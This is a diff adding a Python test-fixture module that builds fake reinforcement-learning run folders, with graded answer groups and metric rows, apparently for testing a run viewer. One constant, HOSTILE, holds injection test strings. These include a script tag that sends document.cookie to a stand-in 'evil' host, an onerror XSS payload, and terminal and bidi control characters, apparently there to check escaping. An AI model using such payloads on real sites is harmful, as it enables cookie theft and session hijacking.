@@ -1,0 +1,61 @@
+"""Run folders to look at, written by the writer that training uses."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterable, Sequence
+from pathlib import Path
+from typing import Any
+
+from outdo.runs.run import Run
+from outdo.types import Completion, Grade, Group, Prompt
+
+RECIPE = {"dataset_name": "arithmetic", "model_name_or_path": "tiny", "max_steps": 30, "seed": 0, "num_generations": 4}
+HOSTILE = (
+    "<script>fetch('//evil/'+document.cookie)</script>\x1b[31mred\x1b[0m \u202egnorw\u202c \u2028 </textarea><img "
+    "src=x onerror=alert(1)> ]]> \x00 '\"&amp; \U0001f600"
+)
+
+
+def group(prompt: str, texts: Sequence[str], rewards: Sequence[float | None], version: int = 0) -> Group:
+    """A graded group with advantages; None is a broken grade."""
+    answers = tuple(Completion((1, 2, 3), (-0.5, -0.25, -0.1), text, "stop", version) for text in texts)
+    verdicts = [("broken" if r is None else "right" if r >= 1 else "wrong") for r in rewards]
+    grades = tuple(Grade(r, v, {"numeric": r}, f"said {v}") for r, v in zip(rewards, verdicts, strict=True))  # type: ignore[arg-type]
+    known = [r for r in rewards if r is not None]
+    mean = sum(known) / len(known) if known else 0.0
+    advantages = tuple(0.0 if r is None else r - mean for r in rewards)
+    asked = Prompt(prompt, ({"role": "user", "content": f"What is {prompt}?"},), "42")
+    return Group(asked, (1, 2), answers, grades, advantages)
+
+
+def numbers(step: int, reward: float = 0.5, **more: Any) -> dict[str, Any]:
+    """A row of metrics."""
+    row = {"reward_mean": reward, "success_rate": reward, "kl_mean": 0.01, "entropy_mean": 0.5, "len_mean": 3.0}
+    row |= {"informative": 0.5, "all_right": 0.25, "all_wrong": 0.25, "tokens": 24, "time/step": 2.0}
+    return row | {"time/rollout": 1.0, "time/grade": 0.25, "time/update": 0.5, "reward/numeric": reward} | more
+
+
+def make_run(folder: Path, steps: int = 30, ended: str | None = "done", groups: Iterable[Group] | None = None) -> Run:
+    """A run whose reward rises from 0 to 1; every step has the same two prompts unless others are given."""
+    run = Run.create(folder, RECIPE | {"max_steps": steps}, {"kind": "grpo", "device": "cpu", "parameters": 7})
+    run.record_eval({"step": 0, "split": "test", "n": 10, "success_rate": 0.1, "low": 0.0, "high": 0.4, "pass@1": 0.2})
+    for step in range(steps):
+        part = step / max(1, steps - 1)
+        easy = group("1+1", [f"two {step}", "2", "2", "3"], [1.0, 1.0, 1.0, part], step)
+        hard = group("17*3", ["51", "no", "no", "no"], [float(step > steps // 2), 0.0, 0.0, 0.0], step)
+        run.record(step, numbers(step, round(part, 6)), [easy, hard] if groups is None else list(groups))
+    if steps:
+        row = {"step": steps, "split": "test", "n": 10, "success_rate": 0.9, "low": 0.6, "high": 0.98, "pass@1": 0.8}
+        run.record_eval(row)
+    if ended:
+        run.finish(ended)  # type: ignore[arg-type]
+        run.close()
+    return run
+
+
+def append(path: Path, *rows: Any) -> None:
+    """Lines as they are, or rows as JSON."""
+    with path.open("ab") as file:
+        for row in rows:
+            file.write(row if isinstance(row, bytes) else json.dumps(row).encode() + b"\n")
